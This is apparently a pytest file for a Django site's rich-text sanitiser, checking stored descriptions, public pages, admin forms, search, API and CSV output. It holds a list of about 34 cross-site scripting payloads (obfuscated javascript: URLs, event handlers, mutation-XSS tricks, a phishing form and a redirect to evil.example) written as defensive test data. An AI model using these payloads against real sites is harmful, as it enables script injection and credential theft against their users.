"""Rich-text descriptions: the sanitiser, the pages, the admin, hostile input."""

import html
import json
import re

import html5lib
import pytest
from django.contrib.staticfiles import finders
from django.core.exceptions import ValidationError
from django.urls import reverse
from django.utils import translation

from programmes.content import rich_text
from programmes.models import Organisation, Programme
from programmes.public.search import SiteSearch

from .factories import add_participation, make_organisation, make_programme
from .helpers import checker_or_skip, errors_and_warnings, nu_html_messages
from .hostile import form_data

pytestmark = pytest.mark.django_db

# --- Checking HTML by walking its elements -------------------------------------

ALLOWED = {
    "p": set(),
    "br": set(),
    "h2": set(),
    "h3": set(),
    "h4": set(),
    "ul": set(),
    "ol": set(),
    "li": set(),
    "strong": set(),
    "em": set(),
    "abbr": {"title"},
    "a": {"href", "title", "rel"},
}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data"}
# What a browser ignores inside a URL's scheme: ASCII whitespace and controls.
IGNORED_IN_SCHEME = re.compile(r"[\x00-\x20]")


def fragment(markup):
    """The elements of an HTML fragment, as a browser parses it."""
    root = html5lib.parseFragment(markup, namespaceHTMLElements=False)
    return [element for element in root.iter() if isinstance(element.tag, str)]


def page_tree(response):
    return html5lib.parse(response.content.decode(), namespaceHTMLElements=False)


def dangerous_url(value):
    scheme = IGNORED_IN_SCHEME.sub("", html.unescape(value)).lower()
    return scheme.startswith(("javascript:", "vbscript:", "data:"))


def allow_list_problems(elements):
    """Elements or attributes of a description outside the allow-list."""
    problems = []
    for element in elements:
        if element.tag == "DOCUMENT_FRAGMENT":
            continue
        if element.tag not in ALLOWED:
            problems.append(f"<{element.tag}>")
            continue
        for name, value in element.attrib.items():
            if name not in ALLOWED[element.tag]:
                problems.append(f"<{element.tag} {name}>")
            elif name in URL_ATTRIBUTES and dangerous_url(value):
                problems.append(f"<{element.tag} {name}={value!r}>")
    return problems


def page_problems(tree):
    """Dangerous constructs anywhere in a public page, whatever their source."""
    problems = []
    for element in tree.iter():
        if not isinstance(element.tag, str):
            continue
        tag = element.tag.split("}")[-1]
        if tag in {"iframe", "object", "embed", "base", "frame", "frameset"}:
            problems.append(f"<{tag}>")
        if tag == "meta" and element.get("http-equiv", "").lower() == "refresh":
            problems.append("<meta http-equiv=refresh>")
        if tag == "script" and not (
            element.get("type") == "application/ld+json"
            or element.get("src", "").startswith("/static/")
        ):
            problems.append("<script> inline")
        for name, value in element.attrib.items():
            name = name.split("}")[-1].lower()
            if name.startswith("on") or name == "style":
                problems.append(f"<{tag} {name}>")
            if name in URL_ATTRIBUTES and dangerous_url(value):
                problems.append(f"<{tag} {name}={value!r}>")
    return problems


def descriptions(tree):
    """The description blocks of a detail page."""
    return [
        element
        for element in tree.iter("div")
        if "prose" in element.get("class", "").split()
    ]


def assert_page_safe(client, path):
    response = client.get(path)
    assert response.status_code == 200, path
    tree = page_tree(response)
    assert page_problems(tree) == [], path
    blocks = descriptions(tree)
    assert blocks, path
    for block in blocks:
        children = [element for element in block.iter() if element is not block]
        assert allow_list_problems(children) == [], path
    return tree


# --- Hostile payloads ----------------------------------------------------------

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><circle r=5></circle></svg>",
    "<svg><script>alert(1)</script></svg>",
    '<iframe src="https://evil.example/"></iframe>',
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<style>body { display: none }</style>",
    '<p style="background: url(javascript:alert(1))">styled</p>',
    '<p style="width: expression(alert(1))">CSS expression</p>',
    '<a href="javascript:alert(1)">plain</a>',
    '<a href="JaVaScRiPt:alert(1)">upper case</a>',
    '<a href="java&#x09;script:alert(1)">entity tab</a>',
    '<a href="java\tscript:alert(1)">raw tab</a>',
    '<a href="java\nscript:alert(1)">raw newline</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;'
    'alert(1)">entities</a>',
    '<a href="&#x6A;avascript&#x3A;alert(1)">hex entities</a>',
    '<a href="  javascript:alert(1)">leading spaces</a>',
    '<a href="vbscript:msgbox(1)">vbscript</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '<a href="https://example.org/" onclick="alert(1)" onmouseover="alert(2)">ev</a>',
    '<form action="https://evil.example/"><input name="password"><button>Go</button>'
    "</form>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<object data="https://evil.example/x.swf"></object><embed src="x.swf">',
    '<base href="https://evil.example/">',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<img src=x onerror=alert(1)//<",
    "<p>unclosed <strong>bold <em>both</p><a href='javascript:alert(1)'",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<abbr title="x" onfocus="alert(1)" tabindex="0">X</abbr>',
    '<h2 id="main-content" class="x">Heading with id</h2>',
    '<a href="https://example.org/" target="_blank" rel="opener">opener</a>',
]


def test_there_are_at_least_twenty_payloads():
    assert len(PAYLOADS) >= 20


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_sanitiser_keeps_nothing_dangerous(payload):
    for output in (rich_text.sanitise(payload), rich_text.render(payload)):
        assert allow_list_problems(fragment(output)) == [], output
        assert page_problems(html5lib.parseFragment(output)) == [], output
    stored = rich_text.clean_for_storage(payload)
    assert allow_list_problems(fragment(stored)) == [], stored


def hostile_programme():
    organisation = make_organisation()
    programme = make_programme()
    add_participation(programme, organisation)
    return programme, organisation


def detail_paths(obj):
    paths = []
    for code in ("fr", "en"):
        with translation.override(code):
            paths.append(obj.get_absolute_url())
    return paths


@pytest.mark.parametrize("payload", PAYLOADS)
def test_hostile_input_through_the_admin_is_stored_sanitised(
    admin_client, client, payload
):
    programme, _organisation = hostile_programme()
    url = reverse("admin:programmes_programme_change", args=[programme.pk])
    data = form_data(admin_client.get(url), "programme_form")
    # Some text besides: a published programme needs a description.
    data |= {
        "description_fr": "Texte.\n\n" + payload,
        "description_en": "Text: " + payload,
    }
    response = admin_client.post(url, data)
    assert response.status_code == 302, payload

    programme.refresh_from_db()
    for stored in (programme.description_fr, programme.description_en):
        assert allow_list_problems(fragment(stored)) == [], stored
    for path in detail_paths(programme):
        assert_page_safe(client, path)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_hostile_input_written_raw_to_the_database_renders_safe(client, payload):
    programme, organisation = hostile_programme()
    # update() skips save(): the row holds the payload as is.
    Programme.objects.filter(pk=programme.pk).update(
        description_fr=payload, description_en=payload
    )
    Organisation.objects.filter(pk=organisation.pk).update(
        description_fr=payload, description_en=payload
    )
    assert Programme.objects.get(pk=programme.pk).description_en == payload
    for obj in (programme, organisation):
        for path in detail_paths(obj):
            assert_page_safe(client, path)
    # The text of the search results, feeds and API is plain text.
    for path in ("/fr/recherche/?q=alert", "/en/search/?q=alert", "/fr/flux/"):
        response = client.get(path)
        assert response.status_code == 200
    response = client.get(reverse("api:programme_detail", args=[programme.pk]))
    # `description` is plain text, data no browser renders as HTML.
    for code in ("fr", "en"):
        html_value = response.json()["description_html"][code]
        assert allow_list_problems(fragment(html_value)) == []


# --- What survives -------------------------------------------------------------

RICH = (
    "Intro with <strong>bold</strong>, <em>italic</em> and "
    '<abbr title="Office des Nations Unies contre la drogue et le crime">ONUDC</abbr>.'
    "\n\n<h2>Objectifs</h2>\n\n<h3>Sous-titre</h3>\n\n<h4>Détail</h4>\n\n"
    "<ul>\n<li>un</li>\n<li>deux</li>\n</ul>\n\n<ol>\n<li>premier</li>\n</ol>\n\n"
    'See <a href="https://www.unodc.org/" title="UNODC">UNODC</a>, '
    '<a href="/fr/programmes/">the list</a>, <a href="#top">the top</a>, '
    '<a href="?page=2">page 2</a> and <a href="mailto:info@example.org">mail</a>.'
)


def test_allowed_markup_is_kept():
    output = rich_text.render(RICH)
    tags = [element.tag for element in fragment(output)]
    for tag in ("strong", "em", "abbr", "h2", "h3", "h4", "ul", "ol", "li", "a"):
        assert tag in tags
    assert '<abbr title="Office des Nations Unies contre' in output
    assert '<a href="https://www.unodc.org/" title="UNODC" rel="noopener">' in output


def test_external_links_get_noopener_and_internal_links_are_untouched():
    links = {
        element.get("href"): element.get("rel")
        for element in fragment(rich_text.render(RICH))
        if element.tag == "a"
    }
    assert links == {
        "https://www.unodc.org/": "noopener",
        "/fr/programmes/": None,
        "#top": None,
        "?page=2": None,
        "mailto:info@example.org": None,
    }
    protocol_relative = rich_text.render('<a href="//evil.example/">x</a>')
    assert 'rel="noopener"' in protocol_relative
    # An editor's own rel is replaced, never kept (rel="opener" would undo it).
    replaced = rich_text.render('<a href="http://a.example/" rel="opener">x</a>')
    assert fragment(replaced)[-1].get("rel") == "noopener"


def test_h1_and_other_tags_are_removed_but_their_text_kept():
    output = rich_text.render(
        '<h1>Title</h1><div class="x"><span id="y">Text</span></div>'
    )
    assert "<h1" not in output and "<div" not in output and "<span" not in output
    assert "Title" in output and "Text" in output


def test_plain_text_is_escaped_and_made_paragraphs():
    output = rich_text.render("First line\nsecond line.\n\nR&D: 5 < 6 > 4.")
    assert output == (
        "<p>First line<br>\nsecond line.</p>\n<p>R&amp;D: 5 &lt; 6 &gt; 4.</p>"
    )


def test_markup_and_blank_line_paragraphs_mix():
    output = rich_text.render("Intro.\n\n<h2>Title</h2>\n\nMore <em>text</em>.")
    assert output == "<p>Intro.</p>\n<h2>Title</h2>\n<p>More <em>text</em>.</p>"


def test_storage_keeps_plain_text_as_typed_and_markup_without_rel():
    text = "L’ONUDC & INTERPOL.\n\nDeuxième paragraphe <3."
    assert rich_text.clean_for_storage(text) == text
    stored = rich_text.clean_for_storage(
        '<a href="https://x.example/" onclick="y">x</a>'
    )
    assert stored == '<a href="https://x.example/">x</a>'
    assert rich_text.clean_for_storage("<script>alert(1)</script>") == ""
    assert rich_text.clean_for_storage("<p> </p><img src=x>") == ""


def test_plain_text_of_rich_text():
    assert rich_text.plain_text("Plain & simple.\n\nTwo.") == "Plain & simple.\n\nTwo."
    assert rich_text.plain_text(RICH).startswith(
        "Intro with bold, italic and ONUDC.\n\nObjectifs\n\nSous-titre"
    )
    assert rich_text.plain_text("<p>R&amp;D <script>x</script></p>") == "R&D"
    assert rich_text.plain_text("") == ""
    assert rich_text.plain_text(None) == ""


def test_plain_text_keeps_french_non_breaking_spaces():
    french = (
        "<p>Le projet «\u00a0AIRCOP\u00a0»\u00a0: depuis quand\u202f?"
        "\n  Depuis 2010.</p>"
    )

    assert rich_text.plain_text(french) == (
        "Le projet «\u00a0AIRCOP\u00a0»\u00a0: depuis quand\u202f? Depuis 2010."
    )


# --- Models -------------------------------------------------------------------


def test_saving_sanitises_every_language():
    programme = make_programme(
        description_fr="<p onclick='x'>Bonjour</p><script>x</script>",
        description_en='<a href="javascript:x">Hello</a>',
    )
    programme.refresh_from_db()
    assert programme.description_fr == "<p>Bonjour</p>"
    assert programme.description_en == "<a>Hello</a>"
    organisation = make_organisation(description_en="<img src=x onerror=y>Body")
    organisation.refresh_from_db()
    assert organisation.description_en == "Body"


def test_a_description_of_markup_only_cannot_be_published():
    programme = make_programme(status="draft")
    programme.description_en = "<script>alert(1)</script>"
    programme.status = "published"
    with pytest.raises(ValidationError) as error:
        programme.full_clean()
    assert "description_en" in error.value.message_dict
    assert programme.description_en == ""


def test_the_admin_refuses_to_publish_a_description_of_markup_only(admin_client):
    programme = make_programme()
    url = reverse("admin:programmes_programme_change", args=[programme.pk])
    data = form_data(admin_client.get(url), "programme_form")
    data["description_en"] = "<script>alert(1)</script><img src=x>"
    response = admin_client.post(url, data)
    assert response.status_code == 200
    assert "description_en" in response.context["adminform"].form.errors
    programme.refresh_from_db()
    assert programme.description_en == "A description."


def test_missing_translations_count_markup_only_as_missing():
    programme = make_programme(status="draft", description_en="<p></p>")
    assert "description" in programme.missing_translations()["en"]
    assert "description" not in programme.missing_translations()["fr"]


def test_the_seed_content_is_stored_as_written(content):
    unodc = Organisation.objects.get(slug_en="unodc")
    assert unodc.description_en.startswith(
        "UNODC is the United Nations office responsible for countering drugs and crime."
    )
    assert "<" not in unodc.description_en


# --- Pages and other outputs ----------------------------------------------------


@pytest.mark.parametrize("code", ["fr", "en"])
def test_pages_show_rich_text(client, code):
    programme = make_programme(**{f"description_{code}": RICH})
    organisation = make_organisation(**{f"description_{code}": RICH})
    for obj in (programme, organisation):
        with translation.override(code):
            path = obj.get_absolute_url()
        tree = assert_page_safe(client, path)
        (block,) = descriptions(tree)
        tags = {element.tag for element in block.iter()}
        assert {"h2", "h3", "ul", "ol", "strong", "em", "abbr", "a"} <= tags
        links = {a.get("href"): a.get("rel") for a in block.iter("a")}
        assert links["https://www.unodc.org/"] == "noopener"
        assert links["/fr/programmes/"] is None


@pytest.mark.slow  # the Nu HTML Checker, in Java
def test_pages_with_rich_text_are_valid_html(client, tmp_path):
    checker_or_skip()
    objects = [
        make_programme(description_fr=RICH, description_en=RICH),
        make_organisation(description_fr=RICH, description_en=RICH),
    ]
    for obj in objects:
        for path in detail_paths(obj):
            name = path.strip("/").replace("/", "-")
            (tmp_path / f"{name}.html").write_bytes(client.get(path).content)
    problems = errors_and_warnings(nu_html_messages(tmp_path))
    assert len(list(tmp_path.glob("*.html"))) == 4
    assert problems == []


@pytest.mark.parametrize("code", ["fr", "en"])
def test_seed_descriptions_render_as_paragraphs(client, content, code):
    aircop = Programme.objects.get(acronym="AIRCOP")
    with translation.override(code):
        path = aircop.get_absolute_url()
    tree = assert_page_safe(client, path)
    (block,) = descriptions(tree)
    paragraphs = list(block.iter("p"))
    expected = getattr(aircop, f"description_{code}").split("\n\n")
    assert len(paragraphs) == len(expected)
    assert "".join(paragraphs[0].itertext()) == expected[0].replace("\n", "")


@pytest.mark.parametrize("code", ["fr", "en"])
def test_meta_description_and_json_ld_use_plain_text(client, code):
    organisation = make_organisation(
        **{f"description_{code}": "<h2>Mission</h2>\n\nFights <em>crime</em>."}
    )
    with translation.override(code):
        path = organisation.get_absolute_url()
    response = client.get(path)
    tree = page_tree(response)
    meta = tree.find(".//head/meta[@name='description']").get("content")
    assert meta == "Mission Fights crime."
    ld = [
        json.loads(script.text)
        for script in tree.iter("script")
        if script.get("type") == "application/ld+json"
    ]
    (data,) = [d for d in ld if d.get("@type") == "Organization"]
    assert data["description"] == "Mission\n\nFights crime."


@pytest.mark.parametrize(
    ("code", "path"), [("fr", "/fr/recherche/"), ("en", "/en/search/")]
)
def test_search_reads_the_text_not_the_markup(client, code, path):
    programme = make_programme(
        **{
            f"description_{code}": '<p>Contrôles <strong class="x">douaniers</strong>'
            ' <a href="https://strongbox.example/">ici</a></p>'
        }
    )
    with translation.override(code):
        assert SiteSearch("strong").result_count == 0
        assert SiteSearch("href").result_count == 0
        search = SiteSearch("douaniers")
        url = programme.get_absolute_url()
    (group,) = search.groups
    assert [result.url for result in group.results] == [url]
    excerpt = str(group.results[0].excerpt)
    assert "<strong" not in excerpt and "href" not in excerpt
    response = client.get(path, {"q": "douaniers"})
    assert b"<mark>douaniers</mark>" in response.content


def test_api_and_csv_give_plain_text_and_html(client):
    programme = make_programme(
        description_fr="<h2>But</h2>\n\nTexte <strong>fort</strong>.",
        description_en="Plain text.\n\nTwo paragraphs.",
    )
    body = client.get(reverse("api:programme_detail", args=[programme.pk])).json()
    assert body["description"]["fr"] == "But\n\nTexte fort."
    assert body["description"]["en"] == "Plain text.\n\nTwo paragraphs."
    assert body["description_html"]["fr"] == (
        "<h2>But</h2>\n<p>Texte <strong>fort</strong>.</p>"
    )
    assert (
        body["description_html"]["en"] == "<p>Plain text.</p>\n<p>Two paragraphs.</p>"
    )
    csv_text = client.get("/api/v1/programmes.csv").getvalue().decode("utf-8-sig")
    assert "But\n\nTexte fort." in csv_text
    assert "<strong>" not in csv_text


# --- Admin ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("language", "bold", "help_word"),
    [("fr", "Gras", "titres"), ("en", "Bold", "headings")],
)
def test_the_admin_textarea_has_a_toolbar_and_help(
    admin_client, language, bold, help_word
):
    programme = make_programme()
    organisation = make_organisation()
    for obj in (programme, organisation):
        name = obj._meta.model_name
        url = reverse(f"admin:programmes_{name}_change", args=[obj.pk])
        response = admin_client.get(url, HTTP_ACCEPT_LANGUAGE=language)
        tree = page_tree(response)
        textareas = {
            t.get("name"): t for t in tree.iter("textarea") if t.get("data-rich-text")
        }
        assert set(textareas) == {"description_fr", "description_en"}
        labels = json.loads(textareas["description_fr"].get("data-rich-text"))
        assert labels["bold"] == bold
        assert set(labels) >= {"bold", "italic", "heading", "list", "link", "toolbar"}
        scripts = [s.get("src", "") for s in tree.iter("script")]
        assert any(src.endswith("admin-site/rich-text.js") for src in scripts)
        help_text = tree.find(".//div[@id='id_description_fr_helptext']")
        text = "".join(help_text.itertext())
        assert "<h2>" in text and "<strong>" in text and help_word in text
    # Other textareas are plain.
    response = admin_client.get(
        reverse("admin:programmes_programme_change", args=[programme.pk])
    )
    summary = page_tree(response).find(".//textarea[@name='summary_fr']")
    assert summary.get("data-rich-text") is None


def test_the_toolbar_script_is_served_and_the_policy_runs_no_inline_code(
    admin_client,
):
    # What the toolbar does is tested in Chromium
    # (tests/browser/test_rich_text_toolbar.py); here: its file is served, and
    # the admin's policy would block inline code and eval.
    page = admin_client.get(reverse("admin:programmes_programme_add"))

    assert finders.find("admin-site/rich-text.js")  # collectstatic serves it
    policy = dict(
        directive.strip().split(" ", 1)
        for directive in page["Content-Security-Policy"].split(";")
        if directive.strip()
    )
    assert policy["script-src"] == "'self'"
